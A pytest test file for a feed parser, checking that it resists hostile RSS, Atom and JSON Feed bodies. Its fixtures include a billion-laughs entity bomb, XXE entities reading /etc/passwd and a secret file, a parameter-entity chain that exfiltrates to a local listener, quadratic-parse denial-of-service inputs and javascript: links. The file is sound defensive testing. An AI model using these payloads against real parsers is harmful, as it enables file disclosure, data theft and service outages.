"""Hostile and broken feed bodies: entity tricks, pathological field sizes, control characters,
truncation, wrong charsets, badly typed JSON Feeds and the time budget. Inline fixtures only; no
network (the "remote" DTDs point at a local socket that must never see a connection)."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tasks.ingest import feeds as parse_module
from tasks.ingest.feeds import INLINE_MAX, MAX_AUTHOR, MAX_SUMMARY, MAX_TITLE, ParsedFeed, ParseError, parse_feed

URL = "https://t.example/feed.xml"
DECL = '<?xml version="1.0" encoding="UTF-8"?>'


def rss(items: str, head: str = DECL, title: str = "T") -> str:
    return f'{head}<rss version="2.0"><channel><title>{title}</title><link>https://t.example/</link>{items}</channel></rss>'


def item(i: int, title: str | None = None, extra: str = "") -> str:
    return (
        f"<item><title>{title or f'Story {i}'}</title><link>https://t.example/s/{i}</link>"
        f'<guid isPermaLink="false">g{i}</guid><description>Summary {i}</description>{extra}</item>'
    )


def all_text(feed: ParsedFeed) -> str:
    parts = [feed.title, feed.language or ""]
    for e in feed.entries:
        parts += [e.guid or "", e.url, e.title, e.summary, e.author or ""]
    return "\n".join(parts)


@pytest.fixture
def listener() -> Iterator[tuple[str, socket.socket]]:
    """A local port that records whether anything connected (an external DTD or entity fetch)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield f"http://127.0.0.1:{sock.getsockname()[1]}", sock
    sock.close()


def connected(sock: socket.socket) -> bool:
    try:
        conn, _ = sock.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


# --- entities and DOCTYPE ----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""


def test_billion_laughs_is_not_expanded_and_the_feed_still_parses() -> None:
    body = rss(item(1, "Laughs &lol9;", "<author>&lol9;&lol9;</author>"), head=BILLION_LAUGHS).encode()
    started = time.perf_counter()
    feed = parse_feed(body, URL)
    assert time.perf_counter() - started < 1
    [entry] = feed.entries
    assert entry.title == "Laughs"
    assert entry.summary == "Summary 1"
    assert "lollol" not in all_text(feed)
    assert feed.warning and "entity" in feed.warning


def test_xxe_file_entity_is_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4242")
    head = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        f'<!ENTITY sec SYSTEM "{secret.as_uri()}">]>'
    )
    body = rss(item(1, "Leak: &xxe; &sec;", "<author>&sec;</author>"), head=head).encode()
    feed = parse_feed(body, URL)
    text = all_text(feed)
    assert "root:" not in text and "/bin/" not in text
    assert "TOPSECRET" not in text
    assert feed.entries[0].title == "Leak:"


def test_xxe_http_and_parameter_entities_fetch_nothing(listener: tuple[str, socket.socket], tmp_path: Path) -> None:
    base, sock = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4343")
    head = f"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY % file SYSTEM "{secret.as_uri()}">
  <!ENTITY % dtd SYSTEM "{base}/evil.dtd">
  %dtd;
  <!ENTITY % wrap "<!ENTITY exfil SYSTEM '{base}/?d=%file;'>">
  %wrap;
  <!ENTITY remote SYSTEM "{base}/entity.txt">
]>"""
    body = rss(item(1, "Remote &remote; &exfil;"), head=head).encode()
    feed = parse_feed(body, URL)
    assert feed.entries[0].title == "Remote"
    assert "TOPSECRET" not in all_text(feed)
    assert not connected(sock)


def test_external_dtd_is_not_fetched(listener: tuple[str, socket.socket]) -> None:
    base, sock = listener
    head = f'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "{base}/evil.dtd">'
    feed = parse_feed(rss(item(1, "Plain &custom; title"), head=head).encode(), URL)
    assert [e.url for e in feed.entries] == ["https://t.example/s/1"]
    assert "Plain" in feed.entries[0].title
    assert not connected(sock)


def test_doctype_scan_handles_quotes_comments_and_brackets() -> None:
    # "]>" inside a literal and a comment must not end the DOCTYPE early (a regex would).
    head = """<?xml version="1.0"?>
<!-- a comment before the DOCTYPE ]> -->
<?stylesheet href="x.xsl"?>
<!DOCTYPE rss [
  <!-- ]> <!ENTITY fake "x"> -->
  <!ENTITY trick "]>">
  <!ENTITY id "tag:example.com,">
  <!ENTITY ext SYSTEM "file:///etc/passwd">
]>"""
    feed = parse_feed(rss(item(1, extra="").replace("g1", "&id;2006:/blog/"), head=head).encode(), URL)
    [entry] = feed.entries
    assert entry.guid == "tag:example.com,2006:/blog/"  # a tiny literal entity still works (strict parse)
    assert entry.title == "Story 1"


def test_unterminated_doctype_is_refused() -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "never closed'
    with pytest.raises(ParseError, match="DOCTYPE"):
        parse_feed(body, URL)


def test_html_page_with_a_doctype_and_no_html_tag_is_named_as_such() -> None:
    with pytest.raises(ParseError, match="HTML page"):
        parse_feed(b"<!DOCTYPE html>\n<head><title>Moved</title></head><body>Gone</body>", URL)


def test_a_str_body_is_refused_not_opened_as_a_path() -> None:
    with pytest.raises(TypeError):
        parse_feed("/etc/hostname", URL)  # type: ignore[arg-type]


# --- sizes and time ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "value"),
    [
        ("author", "a" * 65536),  # the quadratic author-email regex: 10 s unpatched
        ("dc:creator", "a@" + "a." * 32767),  # an email-like run
        ("managingEditor", "<![CDATA[" + "b" * 65536 + "]]>"),
    ],
    ids=["author", "dc:creator-email-like", "managingEditor-cdata"],
)
def test_64kb_author_field_parses_fast(tag: str, value: str) -> None:
    body = rss(item(1, extra=f"<{tag}>{value}</{tag}>")).encode()
    body = body.replace(b"<rss ", b'<rss xmlns:dc="http://purl.org/dc/elements/1.1/" ', 1)
    assert len(body) <= INLINE_MAX  # in-process: the pre-caps are what keeps it fast
    started = time.perf_counter()
    feed = parse_feed(body, URL)
    assert time.perf_counter() - started < 0.5
    [entry] = feed.entries
    if tag != "managingEditor":  # a channel-level field in RSS, an entry's author otherwise
        assert entry.author and len(entry.author) <= MAX_AUTHOR
    assert entry.title == "Story 1" and entry.summary == "Summary 1"


def test_many_long_authors_stay_linear() -> None:
    items = "".join(item(i, extra=f"<author>{'x' * 900}</author>") for i in range(100))
    started = time.perf_counter()
    feed = parse_feed(rss(items).encode(), URL)
    assert time.perf_counter() - started < 1
    assert len(feed.entries) == 100


def test_huge_title_and_summary_are_capped() -> None:
    title = "Breaking " + "news &amp; more " * 70000  # about 1 MB
    body = rss(item(1, title, "<content:encoded>x</content:encoded>").replace("Summary 1", "word " * 200000))
    started = time.perf_counter()
    feed = parse_feed(body.encode(), URL, timeout=20)
    assert time.perf_counter() - started < 3
    [entry] = feed.entries
    assert entry.title.startswith("Breaking news & more news & more")
    assert len(entry.title) <= MAX_TITLE
    assert len(entry.summary) <= MAX_SUMMARY
    assert feed.warning and "oversized" in feed.warning


def test_large_body_is_parsed_in_a_child_process_with_the_same_result() -> None:
    body = rss(
        "".join(item(i, extra=f"<pubDate>Fri, 27 Nov 2026 08:{i % 60:02d}:00 GMT</pubDate>") for i in range(3000))
    )
    data = body.encode()
    assert len(data) > INLINE_MAX
    in_child = parse_feed(data, URL, timeout=20)
    # The in-process parse, which parse_feed takes only for small bodies: no public way to ask for it.
    assert in_child == parse_module._parse_here(data, URL, "")
    assert len(in_child.entries) == 3000
    assert in_child.entries[-1].title == "Story 2999"


def test_time_budget_kills_a_pathological_parse() -> None:
    # One tag with 20,000 attributes: feedparser is quadratic there (about 3 s). No pre-cap helps.
    attrs = " ".join(f'a{i}="v"' for i in range(20000))
    body = rss(item(1, extra=f"<enclosure {attrs}/>")).encode()
    started = time.perf_counter()
    with pytest.raises(ParseError, match="budget"):
        parse_feed(body, URL, timeout=0.5)
    assert time.perf_counter() - started < 2


def test_small_budget_applies_to_small_bodies_too() -> None:
    attrs = " ".join(f'a{i}="v"' for i in range(11000))
    body = rss(item(1, extra=f"<enclosure {attrs}/>")).encode()
    assert len(body) <= INLINE_MAX
    with pytest.raises(ParseError, match="budget"):
        parse_feed(body, URL, timeout=0.2)


# --- control characters ------------------------------------------------------------------------


def test_nul_and_control_characters_removed_everywhere() -> None:
    body = rss(
        item(1, "Ti\x00t\x01le\x1b &#0;&#x1;&#8;&#xD800;&#65535;ok", "<author>Jo\x00e\x7f\x85</author>").replace(
            "g1", "g\x0b1"
        ),
        title="Fe\x00ed\x1f",
    ).encode()
    feed = parse_feed(body, URL)
    assert feed.warning is None  # removed before parsing: the strict parser still reads the feed
    [entry] = feed.entries
    assert entry.title == "Title ok"
    assert entry.author == "Joe"
    assert entry.guid == "g1"
    assert feed.title == "Feed"
    text = all_text(feed)
    assert not [ch for ch in text if (ord(ch) < 32 and ch != "\n") or 0x7F <= ord(ch) <= 0x9F]


# --- truncation --------------------------------------------------------------------------------

FULL = rss("".join(item(i) for i in (1, 2, 3))).encode()


@pytest.mark.parametrize(
    ("marker", "reason"),
    [
        (b"Summary 3", "no element found"),  # mid-text
        (b"<description>Summary 3", "unclosed token"),  # mid-tag: cut after "<descr"
        (b"ary 3</description>", "no element found"),
    ],
)
def test_truncated_rss_keeps_complete_entries_and_counts_the_dropped_one(marker: bytes, reason: str) -> None:
    cut_at = FULL.index(marker) + (6 if marker.startswith(b"<") else 0)
    feed = parse_feed(FULL[:cut_at], URL)
    assert [(e.guid, e.title, e.summary) for e in feed.entries] == [
        ("g1", "Story 1", "Summary 1"),
        ("g2", "Story 2", "Summary 2"),
    ]
    assert feed.dropped == 1
    assert feed.warning and "truncated" in feed.warning and reason in feed.warning


def test_truncated_between_entries_drops_nothing() -> None:
    feed = parse_feed(FULL[: FULL.rindex(b"</item>") + len(b"</item>")], URL)
    assert [e.title for e in feed.entries] == ["Story 1", "Story 2", "Story 3"]
    assert feed.dropped == 0
    assert feed.warning and "truncated" in feed.warning


def test_truncated_atom_inside_cdata_and_multibyte_character() -> None:
    atom = (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Tin Tức</title>'
        + "".join(
            f'<entry><title>Bài {i}</title><link href="https://tin.example/{i}"/><id>tag:t,{i}</id>'
            f"<summary type='html'><![CDATA[<p>Cảnh sát {i}</p>]]></summary></entry>"
            for i in (1, 2, 3)
        )
        + "</feed>"
    ).encode()
    for cut in (atom.index(b"<p>C\xe1\xba\xa3nh s\xc3\xa1t 3") + 5, atom.index(b"nh s\xc3\xa1t 3") + 5):
        feed = parse_feed(atom[:cut], "https://tin.example/atom")  # mid-CDATA, then mid-character ("á")
        assert feed.encoding == "utf-8"
        assert [e.title for e in feed.entries] == ["Bài 1", "Bài 2"]
        assert feed.entries[1].summary == "Cảnh sát 2"
        assert feed.dropped == 1
        assert feed.title == "Tin Tức"


def test_truncated_and_malformed_still_drops_the_partial_entry() -> None:
    broken = FULL.replace(b"<title>Story 1</title>", b"<title>AT&T 1</title>")  # strict parsing fails early
    feed = parse_feed(broken[: broken.index(b"Summary 3")], URL)
    assert [e.guid for e in feed.entries] == ["g1", "g2"]
    assert feed.dropped == 1


def test_complete_feed_reports_nothing_dropped() -> None:
    feed = parse_feed(b"\n\n  " + FULL + b"\n<!-- generated in 0.1 s -->\n", URL)
    assert feed.dropped == 0
    assert feed.warning is None  # leading blank lines before the XML declaration are tolerated
    assert len(feed.entries) == 3


# --- charsets ----------------------------------------------------------------------------------

FRENCH = "Café crème à l’été – “déjà vu” pour 5 €"
POLISH = "Zażółć gęślą jaźń, Łódź"
CHINESE = "朱镕基视察经济特区"  # 镕 is GBK, not GB2312: browsers read "gb2312" as GBK/GB18030
CHINESE_LONG = "中国经济增长放缓，专家预计明年将回升，国家统计局今天发布数据显示"


def test_windows_1252_declared_as_utf8() -> None:
    body = rss(item(1, FRENCH), head='<?xml version="1.0" encoding="UTF-8"?>').encode("cp1252")
    feed = parse_feed(body, URL, "application/rss+xml; charset=utf-8")
    assert feed.entries[0].title == FRENCH
    assert feed.encoding == "cp1252"
    assert feed.warning and "utf-8" in feed.warning.lower()


def test_latin1_declared_is_read_as_windows_1252_like_browsers() -> None:
    body = rss(item(1, FRENCH), head='<?xml version="1.0" encoding="ISO-8859-1"?>').encode("cp1252")
    feed = parse_feed(body, URL, "text/xml")
    assert feed.entries[0].title == FRENCH  # ’ “ ” – € are 0x80-0x9F: C1 controls in real Latin-1
    assert feed.encoding == "cp1252"


def test_latin2_in_xml_declaration_beats_a_wrong_http_charset() -> None:
    body = rss(item(1, POLISH), head='<?xml version="1.0" encoding="ISO-8859-2"?>').encode("iso-8859-2")
    feed = parse_feed(body, URL, "application/rss+xml; charset=UTF-8")
    assert feed.entries[0].title == POLISH
    assert feed.encoding == "iso8859-2"


def test_latin2_from_http_charset_only() -> None:
    body = rss(item(1, POLISH), head='<?xml version="1.0"?>').encode("iso-8859-2")
    feed = parse_feed(body, URL, "text/xml; charset=iso-8859-2")
    assert feed.entries[0].title == POLISH


def test_latin2_undeclared_is_detected_with_the_feed_language() -> None:
    body = rss(item(1, POLISH), head='<?xml version="1.0"?>').replace("<title>T</title>", "<language>pl</language>")
    feed = parse_feed(body.encode("iso-8859-2"), URL)
    assert feed.entries[0].title == POLISH
    assert feed.encoding == "iso8859-2"


def test_gb2312_declared_with_gbk_characters() -> None:
    body = rss(item(1, CHINESE), head='<?xml version="1.0" encoding="gb2312"?>').encode("gbk")
    feed = parse_feed(body, URL, "text/xml; charset=gb2312")
    assert feed.entries[0].title == CHINESE
    assert feed.encoding == "gb18030"


def test_gb2312_undeclared_is_detected() -> None:
    body = rss(item(1, CHINESE_LONG), head='<?xml version="1.0"?>').encode("gb2312")
    feed = parse_feed(body, URL)
    assert feed.entries[0].title == CHINESE_LONG
    assert feed.encoding == "gb18030"


@pytest.mark.parametrize(("codec", "bom"), [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
def test_utf16_with_bom(codec: str, bom: bytes) -> None:
    title = "Ελληνικά, 日本語 & Tiếng Việt"
    body = bom + rss(item(1, title.replace("&", "&amp;")), head='<?xml version="1.0" encoding="UTF-16"?>').encode(codec)
    feed = parse_feed(body, URL, "application/xml; charset=utf-8")  # the BOM outranks the header
    assert feed.entries[0].title == title
    assert feed.encoding == codec


def test_utf8_served_as_latin1_stays_utf8() -> None:
    body = rss(item(1, "Tiếng Việt – Ελληνικά"), head='<?xml version="1.0"?>').encode()
    feed = parse_feed(body, URL, "text/xml; charset=ISO-8859-1")
    assert feed.entries[0].title == "Tiếng Việt – Ελληνικά"
    assert feed.encoding == "utf-8"


def test_utf8_with_a_few_windows_1252_bytes_is_repaired_per_byte() -> None:
    body = rss(item(1, "Nguyễn Văn A") + item(2, "XXX")).encode().replace(b"XXX", "Café “x”".encode("cp1252"))
    feed = parse_feed(body, URL)
    assert [e.title for e in feed.entries] == ["Nguyễn Văn A", "Café “x”"]
    assert feed.encoding == "utf-8+cp1252"


def test_utf8_bom_json_feed() -> None:
    doc = {"version": "https://jsonfeed.org/version/1.1", "title": "Bản tin", "items": [{"id": 1, "url": "/a"}]}
    feed = parse_feed(b"\xef\xbb\xbf" + json.dumps(doc, ensure_ascii=False).encode(), "https://j.example/feed.json")
    assert feed.title == "Bản tin"
    assert [e.url for e in feed.entries] == ["https://j.example/a"]


# --- JSON Feed edge cases ----------------------------------------------------------------------


def json_feed(items: object, **top: object) -> bytes:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", **top, "items": items}).encode()


@pytest.mark.parametrize("items", [{"url": "https://j.example/1"}, "https://j.example/1", 42, True])
def test_json_feed_items_not_an_array_is_refused(items: object) -> None:
    with pytest.raises(ParseError, match="items"):
        parse_feed(json_feed(items), URL, "application/feed+json")


def test_json_feed_fields_of_the_wrong_type() -> None:
    body = json_feed(
        [
            {
                "id": {"nested": 1},
                "url": "https://j.example/1",
                "title": ["a", "list"],
                "summary": {"not": "text"},
                "content_text": "Fallback text",
                "authors": "Jane",
                "author": {"name": "Old style"},
                "date_published": 1764230400,
                "date_modified": "2026-11-27T01:00:00Z",
            },
            {"id": 7, "url": ["https://j.example/2"], "title": "url is a list"},
            {"id": 8, "url": "javascript:alert(1)", "title": "not http"},
            {"id": 9, "url": "https://j.example/9", "title": 3.5, "authors": [{"name": 5}, {"name": "Ann"}, "x"]},
            None,
            [],
        ],
        title={"x": 1},
        language=["en"],
    )
    feed = parse_feed(body, "https://j.example/feed.json", "application/feed+json")
    assert feed.title == ""
    assert feed.language is None
    first, second = feed.entries
    assert first.guid is None
    assert first.title == ""
    assert first.summary == "Fallback text"
    assert first.author == "Old style"  # "authors" is not an array: the 1.0 "author" object is used
    assert first.published is not None and first.published.isoformat() == "2026-11-27T01:00:00+00:00"
    assert (second.guid, second.title, second.author) == ("9", "3.5", "5, Ann")


def test_json_feed_version_of_the_wrong_type_is_not_a_json_feed() -> None:
    body = json.dumps({"version": ["https://jsonfeed.org/version/1.1"], "items": []}).encode()
    with pytest.raises(ParseError, match="not a JSON Feed"):
        parse_feed(body, URL, "application/json")


def test_deeply_nested_json_is_a_parse_error_not_a_recursion_error() -> None:
    body = b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    with pytest.raises(ParseError, match="JSON"):
        parse_feed(body, URL, "application/feed+json", timeout=20)


def test_json_feed_with_control_characters_and_huge_fields() -> None:
    body = json_feed(
        [{"id": "a\u0000b", "url": "https://j.example/1", "title": "T\u0000" + "x" * 100_000, "summary": "s" * 10**6}]
    )
    [entry] = parse_feed(body, URL, "application/feed+json", timeout=20).entries
    assert entry.guid == "ab"
    assert entry.title.startswith("Tx") and len(entry.title) == MAX_TITLE
    assert len(entry.summary) == MAX_SUMMARY


def test_xml_served_as_json_is_still_read_as_xml() -> None:
    feed = parse_feed(FULL, URL, "application/json")
    assert len(feed.entries) == 3


def test_non_http_entry_links_are_skipped() -> None:
    body = rss(
        item(1).replace("https://t.example/s/1", "javascript:alert(1)")
        + item(2).replace("https://t.example/s/2", "file:///etc/passwd")
        + item(3)
    ).encode()
    assert [e.url for e in parse_feed(body, URL).entries] == ["https://t.example/s/3"]
